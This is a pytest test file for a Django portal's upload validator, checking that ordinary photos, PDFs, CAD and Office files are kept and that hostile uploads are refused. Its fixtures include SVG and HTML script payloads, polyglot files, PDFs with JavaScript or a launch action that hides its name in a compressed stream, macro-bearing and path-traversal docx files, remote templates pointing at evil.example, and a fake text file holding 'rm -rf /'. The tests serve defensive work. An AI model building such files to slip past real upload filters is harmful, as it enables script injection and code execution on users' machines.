"""What is taken, what is refused and why; where it lies, and how long."""

import hashlib
import os
import struct
import zipfile
import zlib
from datetime import timedelta
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from portal.accounts.models import User
from portal.foundation import files
from portal.foundation.files import storing, sweeping
from portal.foundation.models import AuditEntry, StoredFile
from tests.factories import make_user
from tests.foundation.files import made

pytestmark = pytest.mark.django_db


@pytest.fixture
def user(settings: Any, tmp_path: Any) -> User:
    settings.DUIJIE_DATA_DIR = tmp_path
    return make_user()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def refusal(user: User, name: str, content: bytes, **kwargs: Any) -> str:
    """What is said of a file that is refused; nothing of it may stay."""
    with pytest.raises(ValidationError) as refused:
        files.store(actor=user, upload=upload(name, content), **kwargs)
    assert not StoredFile.objects.exists()
    assert list(storing.path_of(StoredFile().key).parents[1].glob("??/*")) == []
    return refused.value.messages[0]


GOOD = {
    "照片.jpg": lambda: made.picture("JPEG"),
    "phone.JPG": made.phone_photo,
    "p.jpeg": lambda: made.picture("JPEG", progressive=True),
    "screen.png": lambda: made.picture("PNG"),
    "web.webp": lambda: made.picture("WEBP"),
    "iphone.heic": lambda: made.picture("HEIF"),
    "offer.pdf": made.pdf,
    "plan.dwg": lambda: made.DWG,
    "plan.dxf": lambda: made.DXF,
    "plan-binary.dxf": lambda: made.DXF_BINARY,
    "part.step": lambda: made.STEP,
    "part.STP": lambda: made.STEP,
    "part.stl": lambda: made.STL_BINARY,
    "part-text.stl": lambda: made.STL_TEXT,
    "part.igs": made.iges,
    "offer.docx": made.docx,
    "table.csv": lambda: "名称,数量\r\n轴承,3\r\n".encode("gb18030"),
    "note.txt": lambda: "夜里停机".encode(),
}


@pytest.mark.parametrize("name", GOOD)
def test_good_files_are_kept_as_they_came(user: User, name: str) -> None:
    content = GOOD[name]()
    row = files.store(actor=user, upload=upload(name, content))
    assert storing.path_of(row.key).read_bytes() == content
    assert (row.name, row.size) == (name, len(content))
    assert row.sha256 == hashlib.sha256(content).hexdigest()
    assert row.uploaded_by == user
    assert AuditEntry.objects.get(verb="file.store").object_id == str(row.pk)
    assert row.has_preview == (row.kind == "photo")


@pytest.mark.parametrize(
    "name", ["offer.pdf", "offer.docx", "照片.jpg"], ids=["pdf", "docx", "jpeg"]
)
def test_bytes_lie_where_only_the_portal_reads(user: User, name: str, settings: Any) -> None:
    row = files.store(actor=user, upload=upload(name, GOOD[name]()))
    path = storing.path_of(row.key)
    assert path.is_relative_to(settings.DUIJIE_DATA_DIR / "private")
    assert path.stat().st_mode & 0o777 == 0o600
    assert row.name not in str(path)


def test_a_preview_has_neither_place_nor_camera(user: User) -> None:
    photo = made.phone_photo()
    assert b"Camera of a phone" in photo
    row = files.store(actor=user, upload=upload("a.jpg", photo))
    with Image.open(storing.preview_of(row.key)) as small:
        assert max(small.size) == 480
        assert not small.getexif()
    assert b"Camera of a phone" not in storing.preview_of(row.key).read_bytes()


@pytest.mark.parametrize("letters", [b"<sVg", b"<HtMl\x80", b"<svg x", b"<?pHP\x01"])
def test_letters_that_compressed_noise_has_by_chance_are_no_page(
    user: User, letters: bytes
) -> None:
    photo = made.picture(comment=b"\x9c" + letters + b"\xe1\x07")
    assert files.store(actor=user, upload=upload("a.jpg", photo)).kind == "photo"


def _named(**names: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject(f"/{key}"): NameObject(f"/{value}") for key, value in names.items()}
    )


def _javascript(writer: PdfWriter) -> None:
    action = _named(S="JavaScript")
    action[NameObject("/JS")] = TextStringObject("app.alert(1)")
    writer.root_object[NameObject("/OpenAction")] = action


def _launch(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = _named(S="Launch")


def _attachment(writer: PdfWriter) -> None:
    writer.add_attachment("run.exe", b"MZ")


def _hidden_name(writer: PdfWriter) -> None:
    action = _named(S="JavaScript")
    action[NameObject("/JS")] = TextStringObject("app.alert(1)")
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})


ARCHIVE = made.package({"run.js": b"alert(1)"})
STORED = made.package({"run.js": b"alert(1)"}, zipfile.ZIP_STORED)
BAD = {
    "empty": ("a.jpg", lambda: b"", "It is empty"),
    "svg": ("a.svg", lambda: b"<svg onload='alert(1)'/>", "not taken here"),
    "svg as png": ("a.png", lambda: b"<svg><script>alert(1)</script></svg>", "something else"),
    "html": ("a.html", lambda: made.HTML, "not taken here"),
    "html as txt": ("a.txt", lambda: made.HTML, "HTML, SVG or script"),
    "exe as pdf": ("a.pdf", lambda: b"MZ" + b"\x00" * 200, "It is a program"),
    "script as txt": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "It is a program"),
    "no ending": ("photo", lambda: made.picture(), "not taken here"),
    "two endings": ("photo.jpg.exe", lambda: made.picture(), "not taken here"),
    "wrong ending": ("a.png", lambda: made.picture("JPEG"), "it is JPEG inside"),
    "pdf as jpg": ("a.jpg", made.pdf, "it is PDF inside"),
    "jpeg as txt": ("a.txt", made.picture, "it is JPEG inside"),
    "zip": ("a.zip", lambda: ARCHIVE, "not taken here"),
    "gif as png": ("a.png", lambda: made.picture("GIF"), "it is GIF inside"),
    "zip as docx": ("a.docx", lambda: ARCHIVE, "broken or not what"),
    "jpeg + zip": ("a.jpg", lambda: made.picture() + ARCHIVE, "behind its end"),
    "jpeg + html": ("a.jpg", lambda: made.picture() + made.HTML, "behind its end"),
    "jpeg + pdf": ("a.jpg", lambda: made.picture() + made.pdf(), "behind its end"),
    "jpeg with html": ("a.jpg", lambda: made.picture(comment=made.HTML), "HTML, SVG or script"),
    "jpeg with svg": (
        "a.jpg",
        lambda: made.picture(comment=b"<svg/\xff/onload=alert(1)>"),
        "HTML, SVG or script",
    ),
    "jpeg with svg of its own": (
        "a.jpg",
        lambda: made.picture(comment=b'<SVG xmlns="http://www.w3.org/2000/svg"><a>'),
        "HTML, SVG or script",
    ),
    "jpeg with zip": ("a.jpg", lambda: made.picture(size=(20, 20), comment=STORED), "an archive"),
    "jpeg with pdf": ("a.jpg", lambda: made.picture(comment=b"%PDF-1.7"), "a PDF at the same"),
    "jpeg cut off": ("a.jpg", lambda: made.picture()[:-900], "broken or not complete"),
    "jpeg of noise": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + os.urandom(900), "broken or not"),
    "png + html": ("a.png", lambda: made.picture("PNG") + made.HTML, "behind its end"),
    "png with script": (
        "a.png", lambda: made.png_with_chunk(b"tEXt", b"k\0" + made.HTML), "HTML, SVG or script",
    ),
    "png wrong sum": (
        "a.png", lambda: made.picture("PNG").replace(b"IDAT", b"IDAX", 1), "broken or not",
    ),
    "png moves": ("a.png", lambda: made.png_with_chunk(b"acTL", b"\0" * 8), "It moves"),
    "png of many pixels": ("a.png", made.huge_png, "million pixels"),
    "webp + zip": ("a.webp", lambda: made.picture("WEBP") + ARCHIVE, "behind its end"),
    "heic + zip": ("a.heic", lambda: made.picture("HEIF") + ARCHIVE, "behind its end"),
    "pdf later": ("a.pdf", lambda: b"GIF89a" + made.pdf(), "it is GIF inside"),
    "pdf + zip": ("a.pdf", lambda: made.pdf() + ARCHIVE, "behind its end"),
    "pdf + html": ("a.pdf", lambda: made.pdf() + made.HTML, "behind its end"),
    "pdf with html": (
        "a.pdf", lambda: made.pdf().replace(b"\n", b"\n%" + made.HTML + b"\n", 1), "HTML, SVG",
    ),
    "pdf with javascript": ("a.pdf", lambda: made.pdf(_javascript), "contains script"),
    "pdf that launches": ("a.pdf", lambda: made.pdf(_launch), "contains script"),
    "pdf page action": ("a.pdf", lambda: made.pdf(_hidden_name), "contains script"),
    "pdf escaped name": (
        "a.pdf",
        lambda: made.pdf(_hidden_name).replace(b"/JavaScript", b"/J#61vaScript"),
        "contains script",
    ),
    "pdf with file": ("a.pdf", lambda: made.pdf(_attachment), "carries other files"),
    "pdf locked": ("a.pdf", lambda: made.pdf(lambda w: w.encrypt("x")), "locked by a password"),
    "pdf cut off": ("a.pdf", lambda: made.pdf()[:300], "broken or not complete"),
    "pdf head only": ("a.pdf", lambda: b"%PDF-1.7\n%%EOF", "broken or not complete"),
    "dwg unknown": ("a.dwg", lambda: b"AC9999" + b"\0" * 400, "something else"),
    "dwg + zip": ("a.dwg", lambda: made.DWG + ARCHIVE, "hides an archive"),
    "dxf + html": ("a.dxf", lambda: made.DXF + made.HTML, "HTML, SVG or script"),
    "dxf cut off": ("a.dxf", lambda: made.DXF[:-6], "drawing is broken"),
    "dxf + more": ("a.dxf", lambda: made.DXF + b"more", "behind its end"),
    "step + more": ("a.step", lambda: made.STEP + b"more", "behind its end"),
    "step cut off": ("a.stp", lambda: made.STEP[:60], "drawing is broken"),
    "stl + byte": ("a.stl", lambda: made.STL_BINARY + b"x", "drawing is broken"),
    "stl is html": ("a.stl", lambda: b"solid " + made.HTML, "HTML, SVG or script"),
    "iges short line": ("a.igs", lambda: made.iges()[:-3] + b"\n", "drawing is broken"),
    "docx + html": ("a.docx", lambda: made.docx() + made.HTML, "behind its end"),
    "docx bomb": (
        "a.docx", lambda: made.docx(word__big=b"\0" * 30_000_000), "far larger than it looks",
    ),
    "docx macro": ("a.docx", lambda: made.docx(**{"word/vbaProject.bin": b"x"}), "has macros"),
    "docx entity": (
        "a.docx", lambda: made.docx(**{"word/a.xml": b"<!DOCTYPE a><a/>"}), "has macros",
    ),
    "docx path": ("a.docx", lambda: made.docx(**{"../../etc/passwd": b"x"}), "broken or not what"),
    "docx is xlsx": ("a.xlsx", made.docx, "broken or not what"),
    "text with control": ("a.csv", lambda: b"a,b\x00\x07", "no plain text"),
    "not text": ("a.txt", lambda: b"\xff\xfe\xfd" * 20, "no plain text"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_bad_files_are_refused_with_a_reason(user: User, case: str) -> None:
    name, content, reason = BAD[case]
    said = refusal(user, name, content())
    assert said.startswith(f"“{name}” was not taken.")
    assert reason in said


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../../etc/passwd.jpg", "contains a path"),
        ("C:\\Users\\a.jpg", "contains a path"),
        ("a\x00.jpg", "cannot be seen"),
        ("a\n.jpg", "cannot be seen"),
        ("photo\u202egpj.jpg", "cannot be seen"),
        ("\u200bphoto.jpg", "cannot be seen"),
        ("nul.jpg", "cannot be stored"),
        (".htaccess.jpg", "cannot be stored"),
        ("a?.jpg", "cannot be stored"),
        ("长" * 130 + ".jpg", "longer than 120"),
    ],
)
def test_bad_names_are_refused(user: User, name: str, reason: str) -> None:
    given = upload("a.jpg", made.picture())
    given.unclean_name = name  # type: ignore[attr-defined]
    with pytest.raises(ValidationError) as refused:
        files.store(actor=user, upload=given)
    assert reason in refused.value.messages[0]
    assert "\u202e" not in refused.value.messages[0]


def test_kinds_narrow_what_is_taken(user: User) -> None:
    said = refusal(user, "note.txt", b"text", kinds=[StoredFile.Kind.PHOTO])
    assert said == (
        "“note.txt” was not taken. Files of this type are not taken here; these are: "
        "JPEG, PNG, WebP, HEIC."
    )


def test_size_and_quota(user: User, settings: Any) -> None:
    settings.FILE_MAX_BYTES, settings.FILE_DAY_BYTES = 2 * 1024 * 1024, 3 * 1024 * 1024
    assert "larger than 2 MB" in refusal(user, "a.txt", b"a" * (2 * 1024 * 1024 + 1))
    files.store(actor=user, upload=upload("a.txt", b"a" * 2 * 1024 * 1024))
    with pytest.raises(ValidationError, match="3 MB in 24 hours"):
        files.store(actor=user, upload=upload("b.txt", b"a" * 2 * 1024 * 1024))
    tomorrow = timezone.now() + timedelta(days=1, minutes=1)
    files.store(actor=user, upload=upload("b.txt", b"a" * 2 * 1024 * 1024), now=tomorrow)
    files.store(actor=make_user(), upload=upload("c.txt", b"c"))


def test_all_or_nothing(user: User) -> None:
    both = [upload("a.txt", b"good"), upload("b.svg", b"<svg/>"), upload("c.exe", b"MZ")]
    with pytest.raises(ValidationError) as refused:
        files.store_all(actor=user, uploads=both)
    assert len(refused.value.message_dict["files"]) == 2


def test_who_is_signed_out_uploads_nothing(user: User) -> None:
    from django.contrib.auth.models import AnonymousUser

    with pytest.raises(PermissionDenied):
        files.store(actor=AnonymousUser(), upload=upload("a.txt", b"a"))


def test_the_sweep_takes_what_nothing_refers_to(
    user: User, django_capture_on_commit_callbacks: Any
) -> None:
    row = files.store(actor=user, upload=upload("a.jpg", made.picture()))
    path = storing.path_of(row.key)
    orphan = path.with_name("0" * 32)
    orphan.write_bytes(b"left by a broken upload")
    assert sweeping.sweep() == 0
    later = timezone.now() + timedelta(days=1, minutes=1)
    old = (timezone.now() - timedelta(days=2)).timestamp()
    os.utime(orphan, (old, old))
    with django_capture_on_commit_callbacks(execute=True):
        assert sweeping.sweep(now=later) == 2
    assert not StoredFile.objects.exists()
    assert not path.exists()
    assert not orphan.exists()
    assert AuditEntry.objects.filter(verb="file.sweep").count() == 1


TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
RELATIONS = [
    f'<Relationship TargetMode="External" Target="https://evil.example/t.dotm" Type="{TEMPLATE}"/>',
    f"<Relationship Type='{TEMPLATE}' Target='https://evil.example/t' TargetMode='External'/>",
    f'<Relationship Type="{TEMPLATE}" Target="https://evil.example/t" TargetMode="&#69;xternal"/>',
]


@pytest.mark.parametrize("relation", RELATIONS, ids=["order", "quotes", "reference"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_remote_template_is_refused_however_it_is_written(
    user: User, relation: str, encoding: str
) -> None:
    written = (
        f'<?xml version="1.0" encoding="{encoding}"?><Relationships>{relation}</Relationships>'
    )
    content = made.docx(**{"word___rels__settings.xml.rels": written.encode(encoding)})
    assert "load something by" in refusal(user, "a.docx", content)


def test_entities_are_refused_in_any_encoding(user: User) -> None:
    part = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    content = made.docx(**{"word__styles.xml": part.encode("utf-16")})
    assert "load something by" in refusal(user, "a.docx", content)


def _packed_launch() -> bytes:
    """A PDF that launches a program, with the name of that action in a packed stream."""
    packed = zlib.compress(b"6 0 /Launch ")
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        b"<</Type/Action/S 6 0 R/F(cmd.exe)>>",
        b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
        % (len(packed), packed),
    ]
    out, rows = b"%PDF-1.5\n", [struct.pack(">BHB", 0, 0, 0)]
    for number, body in enumerate(bodies, start=1):
        rows.append(struct.pack(">BHB", 1, len(out), 0))
        out += b"%d 0 obj%s endobj\n" % (number, body)
    rows += [struct.pack(">BHB", 2, 5, 0), struct.pack(">BHB", 1, len(out), 0)]
    table = b"".join(rows)
    head = b"7 0 obj<</Type/XRef/Size 8/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return out + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def test_an_action_whose_name_is_packed_elsewhere_in_a_pdf_is_found(user: User) -> None:
    content = _packed_launch()
    assert b"Launch" not in content
    assert "script, a form or an action" in refusal(user, "a.pdf", content)
